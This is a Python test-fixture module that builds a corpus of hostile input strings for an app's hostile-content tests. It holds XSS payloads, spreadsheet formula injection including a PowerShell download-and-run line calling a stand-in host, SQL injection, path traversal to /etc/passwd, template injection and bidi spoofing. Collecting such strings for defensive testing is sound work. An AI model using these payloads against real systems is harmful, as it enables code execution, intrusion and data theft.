"""Hostile strings for the end-to-end hostile-content suite (tests/test_hostile_content.py).

Hand-written payloads (script and HTML injection, Markdown tricks, javascript:/data: URLs, CSV
formulas, chat pings, bidi overrides, zero-width and control characters, very long and invalid-UTF-8
text), then generated variants: each core payload in every wrapper a post could put it in.
"""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

HANDWRITTEN: tuple[str, ...] = (
    # HTML and script injection
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    "'></div><script>alert(1)</script>",
    "</div></div></div><h1>owned</h1>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click me</a>',
    "<style>*{display:none!important}</style>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<!-- hidden --><b>visible?</b>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<input autofocus onfocus=alert(1)>',
    "<details open ontoggle=alert(1)>",
    '<form action="http://evil.example"><button>Log in</button></form>',
    "<template><script>alert(1)</script></template>",
    "<base href=http://evil.example/>",
    "<object data=javascript:alert(1)>",
    # Markdown and Streamlit Markdown extensions
    "[click here](javascript:alert(1))",
    "[spoof](https://evil.example 'https://acme.example')",
    "![tracker](http://evil.example/pixel.png)",
    "**bold** _italic_ ~~strike~~ `code`",
    "# Heading\n## Sub\n> quoted",
    "```html\n<script>alert(1)</script>\n```",
    "[ref link][1]\n\n[1]: javascript:alert(1)",
    "<http://evil.example>",
    ":red[red text] :material/warning: :rainbow[all colours]",
    "$\\LaTeX \\href{javascript:alert(1)}{x}$",
    "| a | b |\n|---|---|\n| <script> | x |",
    "- [ ] task\n- [x] done",
    "\\*not bold\\*",
    # URLs
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/path",
    "http://",
    "https://exa mple.com/",
    'http://evil.example/"><script>alert(1)</script>',
    "https://example.com/\u202eexe.txt",
    "https://user:pass@evil.example/",
    "http://[::1]:22/",
    # CSV and spreadsheet formulas
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "\uff1d1+1",
    "=cmd|'/C powershell IEX(wget evil.example/p)'!A1",
    '"=1+1"',
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    # chat pings and Slack control sequences
    "@here refund now",
    "@channel @everyone look",
    "<!channel> <!here|here> <!everyone>",
    "<@U0123ABC> <#C0123ABC>",
    "<http://evil.example|https://acme.example/login>",
    # bidi, zero-width and control characters
    "\u202eevil\u202c text",
    "abc\u202egnp.exe",
    "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069",
    "\u200f\u200e marks",
    "مرحبا بالعالم، الطرد متأخر",
    "שלום עולם החבילה מאחרת",
    "zero\u200bwidth\u200cjoin\u200dhere",
    "\ufeffBOM at the start",
    "word\u2060joiner",
    "nul\x00byte",
    "bell\x07ring",
    "\x1b[31mred\x1b[0m and \x1b[2J clear",
    "\x1b]0;new title\x07",
    "back\x08\x08\x08space",
    "del\x7f and \x85 next-line and \x9b csi",
    "line\r\nbreak\rcarriage",
    "\x0bvertical\x0cform feed",
    # length, combining characters, invalid UTF-8 (lone surrogates from surrogateescape)
    "A" * 10_000,
    "word " * 4_000,
    "\U0001f642" * 3_000,
    "e" + "\u0301" * 500,
    "Z\u0351\u0352\u0353\u0354" * 200,
    b"\xff\xfe\xfd broken".decode("utf-8", "surrogateescape"),
    b"caf\xe9 cr\xe8me".decode("utf-8", "surrogateescape"),
    b"\xc3\x28 half sequence".decode("utf-8", "surrogateescape"),
    "\ud800 lone high surrogate",
    "\udfff lone low surrogate",
    # templates, SQL and LIKE wildcards, paths
    "{author} {brand} {order_number}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__.__mro__}",
    "%s%s%s%n",
    "'; DROP TABLE mentions; --",
    "100% off_ every\\thing",
    "../../../../etc/passwd",
    "",
    " ",
)

# Core payloads and the ways a post may wrap them; every pairing is a corpus entry.
CORES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example\")",
    "+1+cmd|' /C calc'!A0",
    "@here",
    "<!channel>",
    "\u202egnp.exe",
    "\x1b[2J",
    "**bold**",
    "<b onmouseover=alert(1)>hover</b>",
    "</div><a href=//evil.example>x</a>",
    "{brand}",
)
WRAPPERS: tuple[str, ...] = (
    "{}",
    "  {}",
    "Hi @acme {} thanks",
    "{}\n{}",
    "\u202e{}\u202c",
    "zw\u200b{}\u200bzw",
    "{}" + "!" * 300,
    "\t{}",
    "«{}» 🙂",
    "> {}",
    "`{}`",
    "{}\x00{}",
    "مرحبا {} שלום",
)


def corpus() -> list[str]:
    """At least 200 distinct hostile strings, hand-written first."""
    generated = [wrapper.format(*([core] * wrapper.count("{}"))) for core in CORES for wrapper in WRAPPERS]
    return list(dict.fromkeys([*HANDWRITTEN, *generated]))


def unescaped(markdown: str, special: str) -> list[str]:
    """The characters of `special` in ``markdown`` that no backslash escapes (each would be Markdown)."""
    found, i = [], 0
    while i < len(markdown):
        if markdown[i] == "\\":
            i += 2
            continue
        if markdown[i] in special:
            found.append(markdown[i])
        i += 1
    return found


# A time that is in year 9999 where it was typed but in year 10000 in UTC, as the database stores it.
PAST_9999_IN_UTC = datetime(9999, 12, 31, 23, tzinfo=timezone(timedelta(hours=-5)))
